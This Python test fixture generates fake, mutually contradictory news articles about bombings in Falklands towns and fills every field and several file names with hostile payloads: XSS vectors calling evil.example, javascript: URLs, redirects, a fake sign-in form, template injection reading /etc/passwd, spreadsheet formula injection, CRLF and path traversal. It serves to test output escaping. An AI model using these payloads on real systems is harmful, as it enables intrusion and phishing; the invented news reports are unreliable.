"""Articles that attack whoever shows them: every field of every one holds something that would run, lead away, or break what surrounds it."""

from __future__ import annotations

import json
from pathlib import Path

#: What a browser that runs any of it would do: set a flag, ask somebody elsewhere, say something.
RUN = "window.__ran=1;fetch('http://evil.example/x')"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror=\"{RUN}\">",
    "<img src=http://evil.example/pixel.png>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"\" onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}\" x=\"",
    f"' onclick='{RUN}' x='",
    "javascript:window.__ran=1//",
    "<a href=\"javascript:window.__ran=1\">look</a>",
    "<iframe src=\"javascript:window.__ran=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__ran=1</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__ran=1></style></mglyph></table></mtext></math>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<style>body{background:url(http://evil.example/b.png)}</style>",
    "<form action=http://evil.example/><button>Sign in</button></form>",
    "<xss-mark data-xss=1 id=content class=top>",
    "{{1234567*9}}{% include '/etc/passwd' %}{{ visit.settings }}${1234567*9}#{1234567*9}<%= 1234567*9 %>",
    "--><script>window.__ran=1</script><!--",
    "]]><script>window.__ran=1</script>",
    "</title><script>window.__ran=1</script>",
    "</textarea></option></select><script>window.__ran=1</script>",
    "\u202egnilles rof\u202c \u2066isolated\u2069 \u200fmark",
    "one\x00two\x07three\x1b[31mred",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")",
    "+1+1|cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "\"}],\"x\":[{\"y\":\"</script>",
    "a,b;c\td\"e\"\"f",
    "\u2028window.__ran=1\u2029",
    "%0d%0aSet-Cookie:%20a=b",
    "../../../../etc/passwd",
    "&lt;script&gt;window.__ran=1&lt;/script&gt;",
    "\ufeff\u200b\u200d\u2060zero width",
    "W" * 3000,
    "\U0001f4a3" * 50,
)  # fmt: skip
PEOPLE = ("health ministry", "provincial governor", "rebel spokesman", "hospital director")
TOWNS = ("Stanley", "Goose Green", "Port Howard", "Fox Bay", "Darwin")


def articles() -> list[dict[str, str]]:
    """Two or three outlets on each of many incidents, who contradict one another, with a payload in every field."""
    out = []
    for n, payload in enumerate(PAYLOADS):
        other = PAYLOADS[(n + 7) % len(PAYLOADS)]
        town, day = TOWNS[n % len(TOWNS)], n % 27 + 1
        for k, (count, who) in enumerate(
            ((9 + n, PEOPLE[n % 4]), (14 + n, PEOPLE[(n + 1) % 4]), (3 + n, PEOPLE[(n + 2) % 4]))[: 3 if n % 4 == 0 else 2]
        ):
            quote = payload if k != 1 else other
            text = (
                f"Bomb in {town} market kills {count} people {quote}\n\n"
                f"{town.upper()}, {day} March 2023 - At least {count} people were killed and {count + 8} wounded on {day} March 2023 when a bomb went "
                f"off in the market of {town}, Falkland Islands {payload}, the {who} said.\n\n"
                f"“It was the army, and {count} people were killed {quote} in {town}” said Captain John {payload[:60]} Varda, a spokesman.\n\n"
                f"The Army of {other[:40]} denied that it had attacked {town}. Islamic State said it had killed {count + 3} soldiers near {quote[:80]}. "
                f"Azerbaijan's defence ministry said Armenian forces had killed {count + 1} Azerbaijani soldiers in {town} {quote[:60]}.\n"
            )
            out.append(
                {
                    "id": f"{n}-{k} {payload[:80]}".replace("\x00", "\\0"),
                    "title": f"Bomb kills {count} {payload}",
                    "outlet": f"{payload[:100]} Daily {k}",
                    "url": (payload if k == 0 else f"http://news.example/{quote}" if k == 1 else f"javascript:window.__ran={n}")[:300],
                    "byline": f"By {quote[:120]}",
                    "published": f"2023-03-{day:02d}",
                    "language": "en",
                    "text": text,
                }
            )
    return out


def write_articles(folder: Path) -> None:
    """The articles as records, and a few as files whose names attack, too."""
    folder.mkdir(parents=True)
    told = articles()
    (folder / "hostile <img src=x onerror=window.__ran=1>.jsonl").write_text("".join(json.dumps(a) + "\n" for a in told), encoding="utf-8")
    for n, name in enumerate(
        ("<script>window.__ran=1<∕script>", "'; window.__ran=1; '", "\u202eevil", "=1+1", "a\nb", '"><img src=x onerror=window.__ran=1>')
    ):
        (folder / f"{name}.txt").write_text(told[n]["text"].replace("Bomb", "Car bomb").replace("March", "April"), encoding="utf-8")
